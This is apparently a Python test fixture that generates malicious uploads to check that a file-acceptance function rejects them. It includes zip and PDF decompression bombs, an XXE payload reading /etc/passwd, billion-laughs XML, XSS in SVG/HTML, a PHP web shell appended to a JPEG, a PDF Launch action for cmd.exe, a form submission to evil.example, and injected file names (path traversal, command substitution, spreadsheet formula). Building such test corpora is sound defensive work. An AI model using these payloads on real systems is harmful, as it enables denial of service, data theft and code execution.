"""Files that somebody with bad intent sends. Each is made here, and harms nobody who does not open it."""

import gzip
import io
import json
import resource
import struct
import sys
import time
import zipfile
import zlib
from collections.abc import Callable, Iterator, Sequence
from dataclasses import dataclass
from pathlib import Path

import pikepdf
import pillow_heif
from PIL import Image

from fundapp.files import NotAccepted, accept

MARK = "alert(document.domain)"
DOCX, XLSX, ODT = "word/document.xml", "xl/workbook.xml", "application/vnd.oasis.opendocument.text"
XXE = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><d>&x;</d>'
LAUGHS = '<?xml version="1.0"?><!DOCTYPE d [<!ENTITY a "ha">' + "".join(
    f'<!ENTITY {chr(98 + n)} "{f"&{chr(97 + n)};" * 10}">' for n in range(9)
) + "]><d>&j;</d>"  # fmt: skip
HTML = f"<!doctype html><script>{MARK}</script>".encode()
SVG = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{MARK}"><script>{MARK}</script></svg>'.encode()
EICAR = rb"X5O!P%@AP[4\PZX54(P^)7CC)7}$EICAR-STANDARD-ANTIVIRUS-TEST-FILE!$H+H*"
TAKEN, REFUSED = True, False


@dataclass(frozen=True)
class Upload:
    """`is_taken`: it is what it says, and is kept to be saved by who asks for it; else it is refused."""

    name: str
    make: Callable[[], bytes]
    is_taken: bool


def packed(*parts: tuple[str, bytes | str], packing: int = zipfile.ZIP_DEFLATED) -> bytes:
    kept = io.BytesIO()
    with zipfile.ZipFile(kept, "w", packing) as archive:
        for name, content in parts:
            archive.writestr(name, content)
    return kept.getvalue()


def zeros(megabytes: int) -> bytes:
    return bytes(megabytes * 1024 * 1024)


def nested(depth: int) -> bytes:
    content = packed(("0", zeros(10)))
    for _level in range(depth):
        content = packed(*((f"{n}.zip", content) for n in range(10)))
    return content


def overlapping() -> bytes:
    """A zip whose 3 000 entries are all the same 20 MB of zeros: 60 GB in 200 kB."""
    name, squeezed = b"word/document.xml", zlib.compressobj(9, zlib.DEFLATED, -15)
    body = squeezed.compress(zeros(20)) + squeezed.flush()
    size, check = 20 * 1024 * 1024, zlib.crc32(zeros(20))
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 8, 0, 0, check, len(body), size, len(name), 0) + name
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 8, 0, 0, check, len(body), size, len(n), 0, 0, 0, 0, 0, 0) + n
        for n in (name, *(b"word/%04d" % number for number in range(3000)))
    )
    begins = len(local) + len(body)
    end = struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 3001, 3001, len(central), begins, 0)
    return local + body + central + end


def many_parts() -> bytes:
    """A zip that is hardly more than its list: 250 000 empty parts in 13 MB."""
    local = struct.pack("<4s5H3I2H", b"PK\3\4", 20, 0, 0, 0, 0, 0, 0, 0, 17, 0) + b"word/document.xml"
    names = (b"word/document.xml", *(b"%06d" % number for number in range(250_000)))
    central = b"".join(
        struct.pack("<4s6H3I5H2I", b"PK\1\2", 20, 20, 0, 0, 0, 0, 0, 0, 0, len(n), 0, 0, 0, 0, 0, 0) + n for n in names
    )
    return local + central + struct.pack("<4s4H2IH", b"PK\5\6", 0, 0, 65535, 65535, len(central), len(local), 0)


def lying() -> bytes:
    """A zip that says of 200 MB of zeros that they are ten letters."""
    content = bytearray(packed((DOCX, zeros(200))))
    for header, at in ((b"PK\3\4", 22), (b"PK\1\2", 24)):
        begins = content.index(header) + at
        content[begins : begins + 4] = struct.pack("<I", 10)
    return bytes(content)


def office(*more: tuple[str, bytes | str], main: str = DOCX) -> bytes:
    return packed(("[Content_Types].xml", "<Types/>"), (main, "<w:document/>"), *more)


def open_document(*more: tuple[str, bytes | str]) -> bytes:
    return packed(("mimetype", ODT), ("content.xml", "<office/>"), *more)


def macro_of_another_name(encoding: str = "utf-8", kind: str = "vbaProject") -> bytes:
    """Word finds the program by the list of types, whatever the part is called."""
    types = f'<Types><Override PartName="/word/x.bin" ContentType="application/vnd.ms-office.{kind}"/></Types>'
    return packed(("[Content_Types].xml", types.encode(encoding)), (DOCX, "<w:document/>"), ("word/x.bin", b"\xcc\x61"))


def macro_enabled() -> bytes:
    kind = "application/vnd.ms-word.document.macroEnabled.main+xml"
    types = f'<Types><Override PartName="/word/document.xml" ContentType="{kind}"/></Types>'
    return packed(("[Content_Types].xml", types), (DOCX, "<w:document/>"))


def macro_sheet() -> bytes:
    kind = "application/vnd.ms-excel.macrosheet+xml"
    types = f'<Types><Override PartName="/xl/macrosheets/sheet1.xml" ContentType="{kind}"/></Types>'
    return packed(("[Content_Types].xml", types), (XLSX, "<workbook/>"), ("xl/macrosheets/sheet1.xml", "<x/>"))


def pdf(**root: pikepdf.Object) -> bytes:
    kept = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        for name, value in root.items():
            document.Root[f"/{name}"] = document.make_indirect(value)
        document.save(kept)
    return kept.getvalue()


def acting(kind: str, **more: str) -> pikepdf.Dictionary:
    return pikepdf.Dictionary(Type=pikepdf.Name.Action, S=pikepdf.Name(f"/{kind}"), **more)


def pdf_with_enclosure() -> bytes:
    kept = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.attachments["evil.exe"] = b"MZ" + bytes(100)
        document.save(kept)
    return kept.getvalue()


def locked_pdf() -> bytes:
    kept = io.BytesIO()
    with pikepdf.new() as document:
        document.add_blank_page()
        document.save(kept, encryption=pikepdf.Encryption(owner="o", user="u"))
    return kept.getvalue()


def pdf_bomb() -> bytes:
    """A page whose drawing is 500 MB of blanks, squeezed twice."""
    kept = io.BytesIO()
    inner = zlib.compressobj(9)
    squeezed = b"".join(inner.compress(b" " * 1024 * 1024) for _megabyte in range(500)) + inner.flush()
    with pikepdf.new() as document:
        page = document.add_blank_page()
        filters = pikepdf.Array([pikepdf.Name.FlateDecode, pikepdf.Name.FlateDecode])
        stream = pikepdf.Stream(document, b"")
        stream.write(zlib.compress(squeezed, 9), filter=filters)
        page.obj.Contents = stream
        document.save(kept, compress_streams=False, stream_decode_level=pikepdf.StreamDecodeLevel.none)
    return kept.getvalue()


def pdf_in_layers(megabytes: int = 500) -> bytes:
    """A PDF of 700 bytes whose list of pages is packed three times: to find the page, blanks are unpacked whole."""
    things = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[3 0 R]/Count 1>>",
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]>>",
    )
    inner = zlib.compressobj(9)
    squeezed = inner.compress(b"1 0 2 50 3 100".ljust(30) + b"".join(thing.ljust(50) for thing in things))
    squeezed += b"".join(inner.compress(b" " * 1024 * 1024) for _megabyte in range(megabytes)) + inner.flush()
    packed_thrice = zlib.compress(zlib.compress(squeezed, 9), 9)
    content = b"%%PDF-1.7\n5 0 obj<</Type/ObjStm/N 3/First 30/Filter[%s]/Length %d>>stream\n%s\nendstream endobj\n" % (
        b"/FlateDecode" * 3,
        len(packed_thrice),
        packed_thrice,
    )
    at = len(content)
    rows = ((0, 0, 255), (2, 5, 0), (2, 5, 1), (2, 5, 2), (1, at, 0), (1, 9, 0))
    table = b"".join(struct.pack(">BIB", *row) for row in rows)
    head = b"4 0 obj<</Type/XRef/Size 6/W[1 4 1]/Root 1 0 R/Length %d>>stream\n" % len(table)
    return content + head + table + b"\nendstream endobj\nstartxref\n%d\n%%%%EOF\n" % at


def pdf_of_one_page_many_times(names: int = 4000, times: int = 5000) -> bytes:
    """A PDF of 54 kB with nothing packed, that tells of one large page again and again: each time it is copied."""
    page = b"".join(b"/%x 0" % name for name in range(names))
    things = (
        b"<</Type/Catalog/Pages 2 0 R>>",
        b"<</Type/Pages/Kids[%s]/Count %d>>" % (b"3 0 R " * times, times),
        b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 9 9]%s>>" % page,
    )
    content, table = b"%PDF-1.4\n", b"xref\n0 4\n0000000000 65535 f \n"
    for number, thing in enumerate(things, 1):
        table += b"%010d 00000 n \n" % len(content)
        content += b"%d 0 obj%sendobj\n" % (number, thing)
    return content + table + b"trailer<</Size 4/Root 1 0 R>>\nstartxref\n%d\n%%%%EOF\n" % len(content)


def pdf_loop(field: bytes) -> bytes:
    """A PDF whose table of contents or tree of pages leads back to itself."""
    return (
        b"%PDF-1.4\n1 0 obj<</Type/Catalog/Pages 2 0 R>>endobj\n2 0 obj<</Type/Pages/Kids[2 0 R]/Count 1>>endobj\n"
        b"xref\n0 3\n0000000000 65535 f \n0000000009 00000 n \n0000000053 00000 n \n"
        b"trailer<</Size 3/Root 1 0 R" + field + b">>\nstartxref\n102\n%%EOF\n"
    )


def deep_pdf() -> bytes:
    return b"%PDF-1.7\n1 0 obj" + b"[" * 500_000 + b"]" * 500_000 + b"endobj\ntrailer<</Root 1 0 R>>\n%%EOF"


def picture(kind: str, size: tuple[int, int] = (8, 8), mode: str = "RGB") -> bytes:
    kept = io.BytesIO()
    Image.new(mode, size).save(kept, kind)
    return kept.getvalue()


def _chunk(kind: bytes, content: bytes) -> bytes:
    return struct.pack(">I", len(content)) + kind + content + struct.pack(">I", zlib.crc32(kind + content))


def png(width: int, height: int, *more: tuple[bytes, bytes], rows: bytes = b"") -> bytes:
    head = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    chunks = [(b"IHDR", head), *more, (b"IDAT", zlib.compress(rows, 9)), (b"IEND", b"")]
    return b"\x89PNG\r\n\x1a\n" + b"".join(_chunk(kind, content) for kind, content in chunks)


def heic(size: tuple[int, int]) -> bytes:
    kept = io.BytesIO()
    pillow_heif.from_pillow(Image.new("RGB", size)).save(kept, quality=1)
    return kept.getvalue()


def heic_that_says_it_is_larger() -> bytes:
    content = bytearray(heic((64, 64)))
    at = content.index(b"ispe") + 8
    content[at : at + 8] = struct.pack(">II", 60_000, 60_000)
    return bytes(content)


def after(begins: bytes, rest: bytes) -> Callable[[], bytes]:
    return lambda: begins + rest


def bombs() -> Iterator[Upload]:
    yield Upload("zeros.docx", lambda: office(("word/media/big", zeros(101))), REFUSED)
    yield Upload("zeros.xlsx", lambda: office(("xl/big", zeros(101)), main=XLSX), REFUSED)
    yield Upload("zeros.odt", lambda: open_document(("big", zeros(101))), REFUSED)
    yield Upload("overlapping.docx", overlapping, REFUSED)
    yield Upload("parts.docx", many_parts, REFUSED)
    yield Upload("lying.docx", lying, TAKEN)  # never unpacked here; kept as it is
    yield Upload("long-type.odt", lambda: packed(("mimetype", b"a" * 200 * 1024 * 1024)), REFUSED)
    yield Upload("nested.zip", lambda: nested(3), REFUSED)
    yield Upload("nested.docx", lambda: office(("word/embeddings/a.zip", nested(2))), TAKEN)
    yield Upload("zeros.gz", lambda: gzip.compress(zeros(50)), REFUSED)
    yield Upload("laughs.docx", lambda: packed((DOCX, LAUGHS)), TAKEN)  # no XML of a sender's is read
    yield Upload("points.png", lambda: png(60_000, 60_000), REFUSED)
    yield Upload("wide.png", lambda: png(2**31 - 1, 1), REFUSED)
    yield Upload("nothing.png", lambda: png(0, 0), REFUSED)
    yield Upload("text.png", lambda: png(8, 8, (b"zTXt", b"a\0\0" + zlib.compress(zeros(300), 9))), REFUSED)
    yield Upload("profile.png", lambda: png(8, 8, (b"iCCP", b"a\0\0" + zlib.compress(zeros(300), 9))), REFUSED)
    yield Upload("large.jpg", lambda: picture("JPEG", (30_000, 30_000), "L"), REFUSED)
    yield Upload("points.heic", heic_that_says_it_is_larger, REFUSED)
    yield Upload("large.heic", lambda: heic((7200, 7000)), REFUSED)
    yield Upload("drawing.pdf", pdf_bomb, REFUSED)
    yield from LAYERS
    yield Upload("again.pdf", pdf_of_one_page_many_times, REFUSED)


def two_things_at_once() -> Iterator[Upload]:
    """What is a file of ours to one reader and something else to another."""
    yield Upload("gif.html", after(b"GIF89a/*", HTML), REFUSED)
    yield Upload("gif.js", after(b"GIF89a=1;", MARK.encode()), REFUSED)
    yield Upload("jpg.html", after(picture("JPEG"), HTML), TAKEN)
    yield Upload("jpg.php", after(picture("JPEG"), b"<?php system($_GET[0]); ?>"), TAKEN)
    yield Upload("jpg.zip", after(picture("JPEG"), packed(("evil.exe", "MZ"))), TAKEN)
    yield Upload("png.html", after(picture("PNG"), HTML), TAKEN)
    yield Upload("png.svg", lambda: png(8, 8, (b"tEXt", b"c\0" + SVG), rows=bytes(200)), TAKEN)
    yield Upload("pdf.html", after(pdf(), b"\n%" + HTML), TAKEN)
    yield Upload("html.pdf", lambda: HTML + pdf(), REFUSED)
    yield Upload("zip.pdf", lambda: packed(("a", "x")) + pdf(), REFUSED)
    yield Upload("pdf.zip", after(pdf(), packed((DOCX, "x"))), TAKEN)
    yield Upload(
        "jar.docx", lambda: office(("META-INF/MANIFEST.MF", "Main-Class: Evil"), ("Evil.class", "\xca")), TAKEN
    )
    yield Upload("exe.docx", after(b"MZ" + bytes(60), office()), REFUSED)
    yield Upload("html.docx", after(HTML, office()), REFUSED)
    yield Upload("webp.jpg", lambda: picture("WEBP"), REFUSED)
    yield Upload("tiff.jpg", lambda: picture("TIFF"), REFUSED)


def markup_and_programs() -> Iterator[Upload]:
    yield Upload("drawing.svg", lambda: SVG, REFUSED)
    yield Upload("drawing.png", lambda: SVG, REFUSED)
    yield Upload("page.pdf", lambda: HTML, REFUSED)
    yield Upload("page.xhtml", lambda: b'<?xml version="1.0"?>' + HTML, REFUSED)
    yield Upload("page.mht", lambda: b"MIME-Version: 1.0\r\nContent-Type: text/html\r\n\r\n" + HTML, REFUSED)
    yield Upload("outside.xml", lambda: XXE.encode(), REFUSED)
    yield Upload(
        "outside.svg", lambda: XXE.replace("<d>", '<svg xmlns="http://www.w3.org/2000/svg">').encode(), REFUSED
    )
    yield Upload("outside.docx", lambda: packed(("[Content_Types].xml", XXE), (DOCX, XXE)), TAKEN)
    yield Upload("outside.xlsx", lambda: packed(("[Content_Types].xml", XXE), (XLSX, XXE)), TAKEN)
    yield Upload("outside.odt", lambda: open_document(("META-INF/manifest.xml", XXE)), TAKEN)
    yield Upload("macro.docm", lambda: office(("word/vbaProject.bin", "x")), REFUSED)
    yield Upload("macro.docx", lambda: office(("WORD/VBAPROJECT.BIN", "x")), REFUSED)
    yield Upload("renamed.docx", macro_of_another_name, REFUSED)
    yield Upload("renamed16.docx", lambda: macro_of_another_name("utf-16"), REFUSED)
    yield Upload("signs.docx", lambda: macro_of_another_name(kind="vba&#80;roject"), REFUSED)
    yield Upload("enabled.docx", macro_enabled, REFUSED)
    yield Upload("sheet.xlsx", macro_sheet, REFUSED)
    yield Upload("basic.odt", lambda: open_document(("Basic/Standard/Module1.xml", "x")), REFUSED)
    yield Upload("scripts.odt", lambda: open_document(("Scripts\\python\\evil.py", "x")), REFUSED)
    yield Upload("within.odt", lambda: open_document(("Object 1/Basic/Standard/Module1.xml", "x")), REFUSED)
    yield Upload("page.odt", lambda: packed(("mimetype", "text/html"), ("content.xml", HTML)), REFUSED)
    yield Upload("old.doc", lambda: b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + bytes(3000), REFUSED)
    yield Upload("program.exe", lambda: b"MZ" + bytes(3000), REFUSED)
    yield Upload("program.pdf", lambda: b"\x7fELF" + bytes(3000), REFUSED)
    yield Upload("link.lnk", lambda: b"L\0\0\0\x01\x14\x02\0" + bytes(300), REFUSED)
    yield Upload("virus.com", lambda: EICAR, REFUSED)


def papers() -> Iterator[Upload]:
    yield Upload("script.pdf", lambda: pdf(OpenAction=acting("JavaScript", JS=MARK)), TAKEN)
    yield Upload("launch.pdf", lambda: pdf(OpenAction=acting("Launch", F="cmd.exe")), TAKEN)
    yield Upload("address.pdf", lambda: pdf(OpenAction=acting("URI", URI=f"javascript:{MARK}")), TAKEN)
    yield Upload("form.pdf", lambda: pdf(OpenAction=acting("SubmitForm", F="http://evil.example/")), TAKEN)
    yield Upload("xfa.pdf", lambda: pdf(AcroForm=pikepdf.Dictionary(XFA=pikepdf.String(XXE))), TAKEN)
    yield Upload("enclosed.pdf", pdf_with_enclosure, TAKEN)
    yield Upload("locked.pdf", locked_pdf, REFUSED)
    yield Upload("loop.pdf", lambda: pdf_loop(b"/Prev 102"), REFUSED)
    yield Upload("tree.pdf", lambda: pdf_loop(b""), REFUSED)
    yield Upload("deep.pdf", deep_pdf, REFUSED)
    yield Upload("half.pdf", lambda: pdf()[: len(pdf()) // 3], REFUSED)
    yield Upload("half.docx", lambda: office()[:-40], REFUSED)
    yield Upload("half.png", lambda: picture("PNG", (200, 200))[:60], REFUSED)
    yield Upload("empty.pdf", lambda: b"", REFUSED)
    yield Upload("head.pdf", lambda: b"%PDF-1.7\n", REFUSED)
    yield Upload("head.docx", lambda: b"PK\3\4", REFUSED)
    yield Upload("head.heic", lambda: b"\0\0\0\x18ftypheic" + bytes(16), REFUSED)


def names() -> Iterator[Upload]:
    """Names that mean something to a file system, a shell, a header or an eye; the content is a plain PDF."""
    for name in (
        "../../../../etc/cron.d/evil.pdf",
        "..\\..\\Windows\\System32\\evil.pdf",
        "C:\\autoexec.pdf",
        "/etc/passwd",
        "evil.pdf\0.exe",
        "evil\u202efdp.exe",
        "\u2066evil\u2069.pdf",
        "evil.pdf.exe",
        "evil.pdf;.php",
        "å" * 300 + ".pdf",
        "አ" * 260 + ".pdf",
        "a%0d%0aSet-Cookie: x=1.pdf",
        'a"; filename="evil.html',
        "=cmd|' /C calc'!A0.pdf",
        "<img src=x onerror=alert(1)>.pdf",
        "$(reboot)`id`.pdf",
        "-rf.pdf",
        ".htaccess",
        "%2e%2e%2fevil.pdf",
        "a" + "\u0315\u0300" * 20_000 + ".pdf",
    ):
        yield Upload(name, pdf, TAKEN)


LAYERS = (Upload("layers.pdf", pdf_in_layers, REFUSED),)
CORPUS = (*bombs(), *two_things_at_once(), *markup_and_programs(), *papers(), *names())


def write_all(folder: Path, corpus: Sequence[Upload] = CORPUS) -> None:
    """Make them as files: so that whoever opens them did not need the memory to make them."""
    for place, upload in enumerate(corpus):
        (folder / str(place)).write_bytes(upload.make())


def _peak() -> int:
    """Megabytes that this process has held at most. Not ru_maxrss, which a child takes over from who started it."""
    status = Path("/proc/self/status").read_text()
    return int(status.partition("VmHWM:")[2].split()[0]) // 1024


def _work() -> float:
    """Seconds of processor time, with what was started and has ended."""
    started = resource.getrusage(resource.RUSAGE_CHILDREN)
    return time.process_time() + started.ru_utime + started.ru_stime


def tell(folder: Path, corpus: Sequence[Upload] = CORPUS) -> None:
    """Open each once in this process, and tell as JSON what became of it, in how many seconds of work, and how many
    megabytes the hungriest of them took: by how many this process grew, or all that one held which it started.
    """
    accept([("first.pdf", pdf()), ("second.jpg", picture("JPEG"))][:1])
    told: dict[str, tuple[bool, float]] = {}
    before = _peak()
    for place, upload in enumerate(corpus):
        content = (folder / str(place)).read_bytes()
        began = _work()
        try:
            accept([(upload.name, content)])
            is_taken = True
        except NotAccepted:
            is_taken = False
        told[upload.name[:60]] = (is_taken, _work() - began)
    started = resource.getrusage(resource.RUSAGE_CHILDREN).ru_maxrss // 1024
    json.dump({"files": told, "megabytes": max(_peak() - before, started)}, sys.stdout)
